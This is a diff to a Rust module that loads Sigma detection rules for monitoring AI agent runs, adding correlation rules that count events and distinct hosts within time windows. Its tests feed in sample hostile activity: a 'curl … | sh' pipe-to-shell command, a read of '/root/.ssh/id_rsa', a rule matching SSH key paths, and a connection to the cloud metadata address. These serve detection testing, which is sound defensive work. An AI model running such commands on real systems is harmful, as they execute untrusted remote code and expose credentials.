@@ -6,7 +6,7 @@
 //! crate matches in linear time; its compiled size is capped far below its
 //! default), and the value strings. What `sigma-rust` would silently
 //! ignore or misread is refused instead: another logsource product, an
-//! unknown category, correlation rules, several documents in one file.
+//! unknown category, several documents in one file.
 
 use std::{
     fmt,
@@ -17,6 +17,7 @@ use std::{
 use serde_json::Value;
 use serde_norway::Value as Yaml;
 
+pub use super::correlation::{Correlation, Correlator};
 use crate::event::Kind;
 
 /// The logsource product every rule names.
@@ -87,28 +88,44 @@ pub enum RuleError {
     TooMany { path: PathBuf },
 }
 
-/// A rule as loaded: what a match reports, the kinds it applies to, and
-/// the parsed rule.
-pub struct LoadedRule {
+/// What a match reports of the rule that fired (a rule or a correlation).
+#[derive(Debug, Clone)]
+pub struct RuleInfo {
     /// The rule's `id`, or its file's name when it has none.
     pub id: String,
     pub title: String,
     pub level: &'static str,
     pub tags: Vec<String>,
     pub file: String,
+}
+
+/// A rule as loaded: what a match reports, the kinds it applies to, and
+/// the parsed rule.
+pub struct LoadedRule {
+    pub info: RuleInfo,
+    /// Its `name` (correlations name rules by it or by `id`).
+    name: Option<String>,
     /// Kinds it applies to (empty: every kind but `detection`).
     kinds: Vec<Kind>,
+    /// Counted by a correlation and not reported itself (Sigma's default
+    /// unless the correlation says `generate: true`).
+    quiet: bool,
     rule: sigma_rust::Rule,
 }
 
 impl fmt::Debug for LoadedRule {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         f.debug_struct("LoadedRule")
-            .field("id", &self.id)
-            .field("title", &self.title)
-            .field("level", &self.level)
+            .field("info", &self.info)
             .finish_non_exhaustive()
     }
+}
+
+/// One file's rule.
+#[derive(Debug)]
+pub enum Loaded {
+    Rule(Box<LoadedRule>),
+    Correlation(Box<Correlation>),
 }
 
 /// The rules in force.
@@ -117,19 +134,22 @@ pub struct RuleSet {
     rules: Vec<LoadedRule>,
     /// Per kind (by [`Kind::index`]), the rules that apply.
     by_kind: Vec<Vec<usize>>,
+    correlations: Vec<Correlation>,
+    /// Per rule (by index), the correlations that count it.
+    counted_by: Vec<Vec<usize>>,
 }
 
 impl RuleSet {
     /// Reads every path: a file, or a directory whose `*.yml`/`*.yaml`
     /// files are read in name order (not recursively).
     pub fn load(paths: &[PathBuf]) -> Result<Self, RuleError> {
-        let mut rules = Vec::new();
+        let mut loaded = Vec::new();
         for path in paths {
             let meta = std::fs::metadata(path).map_err(|source| RuleError::Read {
                 path: path.clone(),
                 source,
             })?;
-            if meta.is_dir() {
+            let files = if meta.is_dir() {
                 let mut files: Vec<PathBuf> = std::fs::read_dir(path)
                     .map_err(|source| RuleError::Read {
                         path: path.clone(),
@@ -142,20 +162,65 @@ impl RuleSet {
                     })
                     .collect();
                 files.sort();
-                for file in files {
-                    rules.push(load_file(&file)?);
-                    if rules.len() > MAX_RULES {
-                        return Err(RuleError::TooMany { path: path.clone() });
-                    }
-                }
+                files
             } else {
-                rules.push(load_file(path)?);
-                if rules.len() > MAX_RULES {
+                vec![path.clone()]
+            };
+            for file in files {
+                loaded.push(load_file(&file)?);
+                if loaded.len() > MAX_RULES {
                     return Err(RuleError::TooMany { path: path.clone() });
                 }
             }
         }
-        Ok(Self::of(rules))
+        let mut rules = Vec::new();
+        let mut correlations = Vec::new();
+        for l in loaded {
+            match l {
+                Loaded::Rule(r) => rules.push(*r),
+                Loaded::Correlation(c) => correlations.push(*c),
+            }
+        }
+        Self::with_correlations(rules, correlations)
+    }
+
+    /// Rules and correlations; every rule a correlation names must be there.
+    pub fn with_correlations(
+        mut rules: Vec<LoadedRule>,
+        correlations: Vec<Correlation>,
+    ) -> Result<Self, RuleError> {
+        let mut counted_by = vec![Vec::new(); rules.len()];
+        for (ci, c) in correlations.iter().enumerate() {
+            for r in &c.refs {
+                let found: Vec<usize> = rules
+                    .iter()
+                    .enumerate()
+                    .filter(|(_, x)| x.info.id == *r || x.name.as_deref() == Some(r.as_str()))
+                    .map(|(i, _)| i)
+                    .collect();
+                if found.is_empty() {
+                    return Err(RuleError::At {
+                        path: PathBuf::from(&c.info.file),
+                        line: c.refs_line.max(1),
+                        message: format!("correlation.rules: no rule named or with id {r:?}"),
+                    });
+                }
+                for i in found {
+                    if let Some(list) = counted_by.get_mut(i) {
+                        list.push(ci);
+                    }
+                    if !c.generate
+                        && let Some(rule) = rules.get_mut(i)
+                    {
+                        rule.quiet = true;
+                    }
+                }
+            }
+        }
+        let mut set = Self::of(rules);
+        set.correlations = correlations;
+        set.counted_by = counted_by;
+        Ok(set)
     }
 
     #[must_use]
@@ -173,7 +238,59 @@ impl RuleSet {
                 }
             }
         }
-        Self { rules, by_kind }
+        let counted_by = vec![Vec::new(); rules.len()];
+        Self {
+            rules,
+            by_kind,
+            correlations: Vec::new(),
+            counted_by,
+        }
+    }
+
+    #[must_use]
+    pub fn correlations(&self) -> &[Correlation] {
+        &self.correlations
+    }
+
+    /// What fires on one event, in order: the rules it matches (but those
+    /// only a correlation counts), then the correlations it completes.
+    /// Correlation windows use the event's own `time`.
+    pub fn evaluate<'s>(
+        &'s self,
+        state: &mut Correlator,
+        kind: Kind,
+        event: &Value,
+    ) -> Vec<&'s RuleInfo> {
+        let hits = self.matching(kind, event);
+        let mut out: Vec<&RuleInfo> = hits
+            .iter()
+            .filter_map(|&i| self.rules.get(i))
+            .filter(|r| !r.quiet)
+            .map(|r| &r.info)
+            .collect();
+        if self.correlations.is_empty() || hits.is_empty() {
+            return out;
+        }
+        let time = event["time"]
+            .as_str()
+            .and_then(|t| humantime::parse_rfc3339(t).ok())
+            .unwrap_or_else(std::time::SystemTime::now);
+        let mut fed = Vec::new();
+        for &i in &hits {
+            for &ci in self.counted_by.get(i).map_or(&[][..], Vec::as_slice) {
+                // One event counts once per correlation.
+                if fed.contains(&ci) {
+                    continue;
+                }
+                fed.push(ci);
+                if let Some(c) = self.correlations.get(ci)
+                    && state.feed(ci, c, event, time)
+                {
+                    out.push(&c.info);
+                }
+            }
+        }
+        out
     }
 
     #[must_use]
@@ -192,9 +309,17 @@ impl RuleSet {
     }
 
     /// The rules that match an event of `kind` whose JSON form is `event`
-    /// (the same JSON the outputs write and the store keeps).
+    /// (the same JSON the outputs write and the store keeps), correlations
+    /// aside.
     #[must_use]
     pub fn matches(&self, kind: Kind, event: &Value) -> Vec<&LoadedRule> {
+        self.matching(kind, event)
+            .into_iter()
+            .filter_map(|i| self.rules.get(i))
+            .collect()
+    }
+
+    fn matching(&self, kind: Kind, event: &Value) -> Vec<usize> {
         let Some(candidates) = self.by_kind.get(kind.index()) else {
             return Vec::new();
         };
@@ -206,8 +331,8 @@ impl RuleSet {
         };
         candidates
             .iter()
-            .filter_map(|&i| self.rules.get(i))
-            .filter(|r| r.rule.is_match(&sigma))
+            .copied()
+            .filter(|&i| self.rules.get(i).is_some_and(|r| r.rule.is_match(&sigma)))
             .collect()
     }
 }
@@ -247,7 +372,7 @@ fn joined(items: &[Value]) -> Option<String> {
 }
 
 /// Reads and checks one rule file.
-pub fn load_file(path: &Path) -> Result<LoadedRule, RuleError> {
+pub fn load_file(path: &Path) -> Result<Loaded, RuleError> {
     let read = |source| RuleError::Read {
         path: path.to_owned(),
         source,
@@ -261,7 +386,111 @@ pub fn load_file(path: &Path) -> Result<LoadedRule, RuleError> {
         });
     }
     let text = std::fs::read_to_string(path).map_err(read)?;
-    parse(&text, path)
+    parse_any(&text, path)
+}
+
+/// A rule, or a correlation rule.
+pub fn parse_any(text: &str, path: &Path) -> Result<Loaded, RuleError> {
+    let is_correlation = serde_norway::from_str::<Yaml>(text)
+        .ok()
+        .is_some_and(|y| y.get("correlation").is_some());
+    if !is_correlation {
+        return parse(text, path).map(|r| Loaded::Rule(Box::new(r)));
+    }
+    check_documents(text, path)?;
+    let line_of = |key: &str| -> usize {
+        text.lines()
+            .position(|l| l.trim_start().starts_with(key))
+            .map_or(1, |i| i + 1)
+    };
+    let yaml: Yaml = serde_norway::from_str(text).map_err(|e| RuleError::At {
+        path: path.to_owned(),
+        line: e.location().map_or(1, |l| l.line()),
+        message: format!("not YAML: {e}"),
+    })?;
+    let Some(top) = yaml.as_mapping() else {
+        return Err(RuleError::At {
+            path: path.to_owned(),
+            line: 1,
+            message: "a rule is a mapping".to_owned(),
+        });
+    };
+    let info = info_of(top, path, &line_of)?;
+    super::correlation::parse(top, info, path, &line_of).map(|c| Loaded::Correlation(Box::new(c)))
+}
+
+/// Several documents: sigma-rust reads one; the rest would be ignored.
+fn check_documents(text: &str, path: &Path) -> Result<(), RuleError> {
+    let documents = text
+        .lines()
+        .enumerate()
+        .filter(|(_, l)| l.trim_end() == "---")
+        .map(|(i, _)| i + 1)
+        .collect::<Vec<_>>();
+    if let Some(&line) = documents.iter().find(|&&l| {
+        text.lines()
+            .take(l - 1)
+            .any(|x| !x.trim().is_empty() && !x.trim_start().starts_with('#'))
+    }) {
+        return Err(RuleError::At {
+            path: path.to_owned(),
+            line,
+            message: "several YAML documents in one file: one rule per file".to_owned(),
+        });
+    }
+    Ok(())
+}
+
+/// The id, title, level and tags of a rule's YAML.
+fn info_of(
+    top: &serde_norway::Mapping,
+    path: &Path,
+    line_of: &dyn Fn(&str) -> usize,
+) -> Result<RuleInfo, RuleError> {
+    let at = |key: &str, message: String| RuleError::At {
+        path: path.to_owned(),
+        line: line_of(key).max(1),
+        message,
+    };
+    let title = top
+        .get("title")
+        .and_then(Yaml::as_str)
+        .ok_or_else(|| at("title:", "a rule has a title".to_owned()))?
+        .to_owned();
+    let level = match top.get("level").and_then(Yaml::as_str) {
+        None | Some("medium") => "medium",
+        Some("informational") => "informational",
+        Some("low") => "low",
+        Some("high") => "high",
+        Some("critical") => "critical",
+        Some(other) => return Err(at("level:", format!("unknown level {other:?}"))),
+    };
+    let id = top
+        .get("id")
+        .and_then(Yaml::as_str)
+        .map(str::to_owned)
+        .unwrap_or_else(|| {
+            path.file_stem()
+                .map(|s| s.to_string_lossy().into_owned())
+                .unwrap_or_default()
+        });
+    let tags = top
+        .get("tags")
+        .and_then(Yaml::as_sequence)
+        .map(|t| {
+            t.iter()
+                .filter_map(Yaml::as_str)
+                .map(str::to_owned)
+                .collect()
+        })
+        .unwrap_or_default();
+    Ok(RuleInfo {
+        id,
+        title,
+        level,
+        tags,
+        file: path.to_string_lossy().into_owned(),
+    })
 }
 
 /// Parses and checks one rule's text (`path` names it in errors).
@@ -276,23 +505,7 @@ pub fn parse(text: &str, path: &Path) -> Result<LoadedRule, RuleError> {
             .position(|l| l.trim_start().starts_with(key))
             .map_or(1, |i| i + 1)
     };
-    // Several documents: sigma-rust reads one; the rest would be ignored.
-    let documents = text
-        .lines()
-        .enumerate()
-        .filter(|(_, l)| l.trim_end() == "---")
-        .map(|(i, _)| i + 1)
-        .collect::<Vec<_>>();
-    if let Some(&line) = documents.iter().find(|&&l| {
-        text.lines()
-            .take(l - 1)
-            .any(|x| !x.trim().is_empty() && !x.trim_start().starts_with('#'))
-    }) {
-        return Err(at(
-            line,
-            "several YAML documents in one file: one rule per file".to_owned(),
-        ));
-    }
+    check_documents(text, path)?;
     let yaml: Yaml = serde_norway::from_str(text).map_err(|e| {
         at(
             e.location().map_or(1, |l| l.line()),
@@ -302,12 +515,6 @@ pub fn parse(text: &str, path: &Path) -> Result<LoadedRule, RuleError> {
     let Yaml::Mapping(top) = &yaml else {
         return Err(at(1, "a rule is a mapping".to_owned()));
     };
-    if top.get("correlation").is_some() {
-        return Err(at(
-            line_of("correlation:"),
-            "correlation rules are not supported yet".to_owned(),
-        ));
-    }
     let logsource = top.get("logsource");
     let product = logsource
         .and_then(|l| l.get("product"))
@@ -350,29 +557,13 @@ pub fn parse(text: &str, path: &Path) -> Result<LoadedRule, RuleError> {
             .unwrap_or_else(|| line_of("detection:"));
         at(line, format!("not a Sigma rule: {e}"))
     })?;
-    let file = path.to_string_lossy().into_owned();
-    let id = rule.id.clone().unwrap_or_else(|| {
-        path.file_stem()
-            .map(|s| s.to_string_lossy().into_owned())
-            .unwrap_or_default()
-    });
-    let level = match top.get("level").and_then(Yaml::as_str) {
-        None | Some("medium") => "medium",
-        Some("informational") => "informational",
-        Some("low") => "low",
-        Some("high") => "high",
-        Some("critical") => "critical",
-        Some(other) => {
-            return Err(at(line_of("level:"), format!("unknown level {other:?}")));
-        }
-    };
+    let info = info_of(top, path, &line_of)?;
+    let name = top.get("name").and_then(Yaml::as_str).map(str::to_owned);
     Ok(LoadedRule {
-        id,
-        title: rule.title.clone(),
-        level,
-        tags: rule.tags.clone().unwrap_or_default(),
-        file,
+        info,
+        name,
         kinds,
+        quiet: false,
         rule,
     })
 }
@@ -447,7 +638,116 @@ mod tests {
     use super::*;
 
     fn rule(text: &str) -> Result<LoadedRule, RuleError> {
-        parse(text, Path::new("t.yml"))
+        match parse_any(text, Path::new("t.yml"))? {
+            Loaded::Rule(r) => Ok(*r),
+            Loaded::Correlation(c) => panic!("a correlation: {c:?}"),
+        }
+    }
+
+    fn correlation(text: &str) -> Correlation {
+        match parse_any(text, Path::new("c.yml")) {
+            Ok(Loaded::Correlation(c)) => *c,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    const DENY: &str = "title: deny\nname: deny\nlogsource:\n  product: agent-sensor\n  category: policy_violation\ndetection:\n  s:\n    policy.verdict: deny\n  condition: s\n";
+    const CONNECT: &str = "title: conn\nid: conn\nlogsource:\n  product: agent-sensor\n  category: network_connect\ndetection:\n  s:\n    run.agent|exists: true\n  condition: s\n";
+
+    fn at(run: &str, secs: u64, extra: Value) -> Value {
+        let mut e = json!({"kind": "x", "run": {"id": run, "agent": "a"},
+                           "time": crate::event::rfc3339(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_700_000_000 + secs)).to_string(),
+                           "policy": {"verdict": "deny"}});
+        if let (Some(o), Value::Object(x)) = (e.as_object_mut(), extra) {
+            o.extend(x);
+        }
+        e
+    }
+
+    #[test]
+    fn event_count_fires_at_its_threshold_within_its_window_per_group() {
+        let c = correlation(
+            "title: many denials\nid: c1\nlevel: high\ncorrelation:\n  type: event_count\n  rules: [deny]\n  group-by: [run.id]\n  timespan: 1m\n  condition:\n    gte: 3\n",
+        );
+        let set = RuleSet::with_correlations(vec![rule(DENY).unwrap()], vec![c]).unwrap();
+        let mut st = Correlator::default();
+        let mut fire = |run: &str, t: u64| -> Vec<String> {
+            set.evaluate(&mut st, Kind::PolicyViolation, &at(run, t, json!({})))
+                .iter()
+                .map(|i| i.id.clone())
+                .collect()
+        };
+        // The base rule is only counted (Sigma's default: generate false).
+        assert!(fire("r1", 0).is_empty());
+        assert!(fire("r2", 1).is_empty());
+        assert!(fire("r1", 10).is_empty());
+        assert_eq!(fire("r1", 20), ["c1"]);
+        // Counting starts again; a window of 60 s slides.
+        assert!(fire("r1", 30).is_empty());
+        assert!(fire("r1", 40).is_empty());
+        assert!(
+            fire("r2", 100).is_empty(),
+            "r2's first is out of the window"
+        );
+        assert!(fire("r2", 110).is_empty());
+        assert_eq!(fire("r2", 120), ["c1"]);
+    }
+
+    #[test]
+    fn value_count_counts_distinct_values_and_generate_keeps_the_base_rule() {
+        let c = correlation(
+            "title: many hosts\nid: c2\ngenerate: true\ncorrelation:\n  type: value_count\n  rules: conn\n  group-by:\n    - run.id\n  timespan: 5m\n  condition:\n    gt: 2\n    field: network.dst_ip\n",
+        );
+        let set = RuleSet::with_correlations(vec![rule(CONNECT).unwrap()], vec![c]).unwrap();
+        let mut st = Correlator::default();
+        let mut fire = |ip: &str, t: u64| -> Vec<String> {
+            set.evaluate(
+                &mut st,
+                Kind::NetworkConnect,
+                &at("r", t, json!({"network": {"dst_ip": ip}})),
+            )
+            .iter()
+            .map(|i| i.id.clone())
+            .collect()
+        };
+        assert_eq!(fire("10.0.0.1", 0), ["conn"]);
+        assert_eq!(fire("10.0.0.1", 1), ["conn"]);
+        assert_eq!(fire("10.0.0.2", 2), ["conn"]);
+        assert_eq!(fire("10.0.0.3", 3), ["conn", "c2"]);
+    }
+
+    #[test]
+    fn correlations_are_checked() {
+        let unknown = correlation(
+            "title: x\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 1m\n  condition: {gte: 2}\n",
+        );
+        assert!(matches!(
+            RuleSet::with_correlations(vec![rule(DENY).unwrap()], vec![unknown]),
+            Err(RuleError::At { line: 4, .. })
+        ));
+        for (text, line) in [
+            (
+                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1w\n  condition: {gte: 2}\n",
+                5,
+            ),
+            (
+                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1m\n  condition: {lt: 2}\n",
+                6,
+            ),
+            (
+                "title: x\ncorrelation:\n  type: value_count\n  rules: [a]\n  timespan: 1m\n  condition: {gte: 2}\n",
+                6,
+            ),
+            (
+                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1m\n  condition: {gte: 0}\n",
+                6,
+            ),
+        ] {
+            match parse_any(text, Path::new("c.yml")) {
+                Err(RuleError::At { line: l, .. }) => assert_eq!(l, line, "{text}"),
+                other => panic!("{text}: {other:?}"),
+            }
+        }
     }
 
     const SSH: &str = "title: ssh\nid: r-ssh\nlevel: high\ntags: [attack.t1552]\nlogsource:\n  product: agent-sensor\n  category: process_creation\ndetection:\n  run:\n    run.agent|exists: true\n  sel:\n    process.argv|contains: '/.ssh/id_'\n  condition: run and sel\n";
@@ -461,14 +761,14 @@ mod tests {
     #[test]
     fn a_rule_matches_argv_items_and_the_run() {
         let set = RuleSet::of(vec![rule(SSH).unwrap()]);
-        assert_eq!(set.rules()[0].level, "high");
-        assert_eq!(set.rules()[0].tags, ["attack.t1552"]);
+        assert_eq!(set.rules()[0].info.level, "high");
+        assert_eq!(set.rules()[0].info.tags, ["attack.t1552"]);
         let hit = set.matches(
             Kind::ProcessExec,
             &exec(&["cat", "/root/.ssh/id_rsa"], true),
         );
         assert_eq!(hit.len(), 1);
-        assert_eq!(hit[0].id, "r-ssh");
+        assert_eq!(hit[0].info.id, "r-ssh");
         // Outside a run, another kind, another file: nothing.
         assert!(
             set.matches(
@@ -500,7 +800,7 @@ mod tests {
         assert!(set.matches(Kind::RunStart, &at(3)).is_empty());
         assert_eq!(set.matches(Kind::ProcessExec, &at(5)).len(), 1);
         assert!(set.matches(Kind::Detection, &at(5)).is_empty());
-        assert_eq!(set.rules()[0].id, "t");
+        assert_eq!(set.rules()[0].info.id, "t");
     }
 
     #[test]
@@ -532,8 +832,8 @@ mod tests {
                 "YAML",
             ),
             (
-                "title: x\nlogsource:\n  product: agent-sensor\ncorrelation:\n  type: event_count\n",
-                4,
+                "title: x\nlogsource:\n  product: agent-sensor\ncorrelation:\n  type: temporal\n",
+                5,
                 "correlation",
             ),
             (
@@ -592,18 +892,36 @@ mod tests {
         assert!(set.len() >= 9, "{}", set.len());
         let metadata = json!({"kind": "network.connect", "run": {"id": "r", "agent": "a"},
                               "network": {"dst_ip": "169.254.169.254", "dst_port": 80}});
+        let mut state = Correlator::default();
+        // (The pack's "any IP connect" rule only counts for a correlation.)
         let hit: Vec<&str> = set
-            .matches(Kind::NetworkConnect, &metadata)
+            .evaluate(&mut state, Kind::NetworkConnect, &metadata)
             .iter()
             .map(|r| r.title.as_str())
             .collect();
         assert_eq!(hit, ["Agent run connects to a cloud metadata service"]);
+        // The 21st distinct host of a run within 5 minutes.
+        let mut last = Vec::new();
+        for i in 0..21 {
+            let e = json!({"kind": "network.connect", "run": {"id": "r2", "agent": "a"},
+                           "time": "2026-12-05T05:00:00Z",
+                           "network": {"dst_ip": format!("10.0.0.{i}"), "dst_port": 443}});
+            last = set
+                .evaluate(&mut state, Kind::NetworkConnect, &e)
+                .iter()
+                .map(|r| r.id.clone())
+                .collect();
+            if i < 20 {
+                assert!(last.is_empty(), "{i}: {last:?}");
+            }
+        }
+        assert_eq!(last, ["6b2d8f4a-1e7c-4a9b-b3d6-2c5e8a1f7d11"]);
         let curl = json!({"kind": "process.exec", "run": {"id": "r", "agent": "a"},
                           "process": {"exe": "/usr/bin/bash", "argv": ["sh", "-c", "curl -s http://x/i.sh | sh"]}});
         let hit: Vec<&str> = set
             .matches(Kind::ProcessExec, &curl)
             .iter()
-            .map(|r| r.id.as_str())
+            .map(|r| r.info.id.as_str())
             .collect();
         assert_eq!(hit, ["9a1e3c7b-5d2f-4e8a-b6c4-2e7f1d3a8c03"]);
         let benign = json!({"kind": "process.exec", "run": {"id": "r", "agent": "a"},
